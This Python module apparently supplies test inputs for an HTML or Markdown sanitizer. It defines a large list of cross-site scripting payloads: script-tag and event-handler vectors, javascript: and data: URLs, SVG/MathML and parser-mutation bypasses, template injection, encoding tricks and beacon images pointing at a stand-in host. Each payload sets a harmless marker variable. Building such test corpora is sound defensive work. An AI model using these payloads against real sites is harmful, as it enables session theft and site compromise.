"""Texts that would run a program on a page that trusted them; it would set `window.__xss`."""

RUN = "window.__xss=1"
_IN_URL = "javascript:window.__xss=1"
_SCRIPTS = f"""
<script>{RUN}</script>
<ScRiPt>{RUN}</sCrIpT>
<script/x>{RUN}</script>
<script
>{RUN}</script
>
<script src=data:text/javascript,{RUN}></script>
<scr<script>ipt>{RUN}</scr</script>ipt>
<<script>{RUN}//<</script>
<script>{RUN}
"><script>{RUN}</script>
'><script>{RUN}</script>
</textarea><script>{RUN}</script>
</title><script>{RUN}</script>
</p></div></main><script>{RUN}</script>
--><script>{RUN}</script>
<![CDATA[<script>{RUN}</script>]]>
<!--[if gte IE 4]><script>{RUN}</script><![endif]-->
<?xml version="1.0"?><script>{RUN}</script>
<script type=module>{RUN}</script>
"""
_EVENTS = f"""
<img src=x onerror={RUN}>
<img/src=x/onerror={RUN}>
<img src="x" onerror="{RUN}" alt="y">
<IMG SRC=x ONERROR={RUN}>
<img src=x onerror&#61;{RUN}>
<img src=x:x onerror=&#119;indow.__xss=1>
<img src=data:image/png;base64,AAAA onerror={RUN}>
<img src="x` `<script>{RUN}</script>"` `>
<img alt="<script>{RUN}</script>" src=x>
<body onload={RUN}>
<body onpageshow={RUN}>
<div onmouseover={RUN} style=position:fixed;inset:0>x</div>
<p onclick={RUN}>x</p>
<a onmouseover={RUN}>x</a>
<span onfocus={RUN} tabindex=0 autofocus>x</span>
<input onfocus={RUN} autofocus>
<select onfocus={RUN} autofocus><option>x</select>
<textarea onfocus={RUN} autofocus>x</textarea>
<button onfocus={RUN} autofocus>x</button>
<details open ontoggle={RUN}>x</details>
<video src=x onerror={RUN}></video>
<video><source onerror={RUN}></video>
<audio src=x onerror={RUN}></audio>
<marquee onstart={RUN}>x</marquee>
<p style="animation:x" onanimationstart={RUN}>x</p>
<p style="transition:all 1s" ontransitionend={RUN}>x</p>
<div popover id=p onbeforetoggle={RUN}>x</div><button popovertarget=p>x</button>
<table onclick={RUN}><td background="{_IN_URL}">x</td></table>
<x onclick={RUN}>x</x>
<ol start="1" onclick={RUN}><li>x</li></ol>
"""
_URLS = f"""
<a href="{_IN_URL}">x</a>
<a href=" {_IN_URL}">x</a>
<a href="JaVaScRiPt:{RUN}">x</a>
<a href="java&#9;script:{RUN}">x</a>
<a href="java&#10;script:{RUN}">x</a>
<a href="java&#13;script:{RUN}">x</a>
<a href="&#1;{_IN_URL}">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:{RUN}">x</a>
<a href="javascript&colon;{RUN}">x</a>
<a href="java&Tab;script&colon;{RUN}">x</a>
<a href="javascript&#0000058{RUN}">x</a>
<a href="\x0bjavascript:{RUN}">x</a>
<a href="\u00a0javascript:{RUN}">x</a>
<a href="\u2028javascript:{RUN}">x</a>
<a href="ja\x00vascript:{RUN}">x</a>
<a href="view-source:{_IN_URL}">x</a>
<a href="vbscript:{RUN}">x</a>
<a href="livescript:{RUN}">x</a>
<a href="blob:null/x">x</a>
<a href="filesystem:null/x">x</a>
<a href="data:text/html,<script>{RUN}</script>">x</a>
<a href=" data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>
<a href="da&#9;ta:text/html,<script>{RUN}</script>">x</a>
<a href="da&#10;ta:text/html,x">x</a>
<a href="&#1;data:text/html,x">x</a>
<a href="DATA:text/html,x">x</a>
<a href="data&colon;text/html,x">x</a>
<a href="data:image/svg+xml,<svg onload={RUN}>">x</a>
<img src="{_IN_URL}">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>">
<img src="da&#9;ta:image/svg+xml,<svg/>">
<img src="data:text/html,<script>{RUN}</script>">
<img src="https://x.example/seen.png">
<img src="//x.example/seen.png">
<img src="/\\x.example/seen.png">
<img src="/&#9;/x.example/seen.png">
<img src="\\\\x.example\\seen.png">
<img srcset="https://x.example/seen.png 1x" src=x>
<blockquote cite="{_IN_URL}">x</blockquote>
<a href=/accounts/logout/ ping=https://x.example/>x</a>
<a href="https://x.example/" target=_top rel=opener>x</a>
"""
_FOREIGN = f"""
<svg onload={RUN}>
<svg><script>{RUN}</script></svg>
<svg><script href="data:,{RUN}"/></svg>
<svg><a xlink:href="{_IN_URL}"><text y=20>x</text></a></svg>
<svg><animate onbegin={RUN} attributeName=x dur=1s>
<svg><a><animate attributeName=href values="{_IN_URL}"/><text y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to="{RUN}"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x"/></svg>
<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>
<svg><style><img src=x onerror={RUN}></style></svg>
<svg><desc><img src=x onerror={RUN}></desc></svg>
<math href="{_IN_URL}">x</math>
<math><mi xlink:href="{_IN_URL}">x</mi></math>
<math><mtext href="{_IN_URL}">x</mtext></math>
<math><maction actiontype="statusline#{_IN_URL}">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>
<math><semantics><annotation><script>{RUN}</script></annotation></semantics></math>
<math><mi><script>{RUN}</script></mi></math>
<math><mspace width="1em;}}*{{x:expression({RUN})"></mspace></math>
"""
_MUTATIONS = f"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">
<math><mtext><table><mglyph><style><math><img src onerror={RUN}></style></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}></style></form>
<svg></p><style><a id="</style><img src=1 onerror={RUN}>">
<svg><p><style><g title="</style><img src onerror={RUN}>">
<noscript><p title="</noscript><img src=x onerror={RUN}>">
<noembed><img alt="</noembed><img src=x onerror={RUN}>"></noembed>
<noframes><img alt="</noframes><img src=x onerror={RUN}>"></noframes>
<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>
<plaintext><img src=x onerror={RUN}>
<template><script>{RUN}</script></template>
<template shadowrootmode=open><script>{RUN}</script></template>
<title><img alt="</title><img src=x onerror={RUN}>"></title>
<iframe><img alt="</iframe><img src=x onerror={RUN}>"></iframe>
<select><template><img src=x onerror={RUN}></template></select>
<table><tr><td><style><a title="</style><img src=x onerror={RUN}>">
<p><table><p><img src=x onerror={RUN}></table>
<b><i></b><img src=x onerror={RUN}></i>
<a title="&quot;&gt;&lt;img src=x onerror={RUN}&gt;" href=/>x</a>
<img alt="`onerror={RUN}" src=x>
<p lang="x&quot; onclick=&quot;{RUN}">x</p>
<span lang="' onmouseover='{RUN}">x</span>
"""
_MARKDOWN = f"""
[x]({_IN_URL})
[x]( {_IN_URL} )
[x](<{_IN_URL}>)
[x](JAVASCRIPT:{RUN})
[x](javascript&colon;{RUN})
[x](java&#9;script:{RUN})
[x](&#106;avascript:{RUN})
[x](vbscript:{RUN})
[x](data:text/html,x)
[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)
[x](https://x.example/ "\\"onmouseover={RUN} x=\\"")
[x](https://x.example/"onmouseover={RUN})
[x]: {_IN_URL}
![x]({_IN_URL})
![x](https://x.example/seen.png)
![x](data:image/svg+xml,<svg/onload={RUN}>)
![x" onerror="{RUN}](x)
<{_IN_URL}>
<data:text/html,x>
<javascript&colon;{RUN}>
`<script>{RUN}</script>`
$\\text{{<script>{RUN}</script>}}$
$\\href{{{_IN_URL}}}{{x}}$
$\\unicode{{<img src=x onerror={RUN}>}}$
$<img src=x onerror={RUN}>$
$$\\begin{{matrix}}<script>{RUN}</script>\\end{{matrix}}$$
$\\style{{background:url({_IN_URL})}}{{x}}$
~~<img src=x onerror={RUN}>~~
"""
_PAGE = f"""
<style>*{{background:url(https://x.example/seen)}}</style>
<style>@import 'https://x.example/x.css';</style>
<link rel=stylesheet href="data:text/css,*{{color:red}}">
<link rel=prefetch href=https://x.example/>
<p style="background:url({_IN_URL})">x</p>
<p style="width:expression({RUN})">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="-moz-binding:url(x.xml#x)">x</p>
<meta http-equiv=refresh content="0;url={_IN_URL}">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
<base href="{_IN_URL}//">
<base href=https://x.example/>
<form action="{_IN_URL}"><button>x</button></form>
<form id=f></form><button form=f formaction="{_IN_URL}">x</button>
<input type=image src=x formaction="{_IN_URL}">
<isindex action="{_IN_URL}">
<iframe src="{_IN_URL}"></iframe>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<object data="data:text/html,<script>{RUN}</script>"></object>
<embed src="data:text/html,x">
<applet code=x></applet>
<frameset onload={RUN}><frame src="{_IN_URL}"></frameset>
<portal src=https://x.example/></portal>
<a name=body id=cookie>x</a><img name=getElementById>
<div hx-get="/" hx-trigger=load hx-on:click="{RUN}">x</div>
<div data-hx-on--load="{RUN}" hx-vals="js:{{a:{RUN}}}">x</div>
<p class="button" id="main" hx-disable=false>x</p>
{{{{ constructor.constructor('{RUN}')() }}}}
{{% include "base.html" %}}
${{{RUN}}}
<%= {RUN} %>
#{{{RUN}}}
\u202e<script>{RUN}</script>
\uff1cscript\uff1e{RUN}\uff1c/script\uff1e
\u02c2script\u02c3{RUN}
<\u017fcript>{RUN}</\u017fcript>
<img src=x on\u0435rror={RUN}>
+ADw-script+AD4-{RUN}+ADw-/script+AD4-
%3Cscript%3E{RUN}%3C/script%3E
&lt;script&gt;{RUN}&lt;/script&gt;
&amp;lt;script&amp;gt;{RUN}
"""
_LISTS = (_SCRIPTS, _EVENTS, _URLS, _FOREIGN, _MUTATIONS, _MARKDOWN, _PAGE)
PAYLOADS = tuple(line for text in _LISTS for line in text.strip("\n").split("\n") if line.strip())
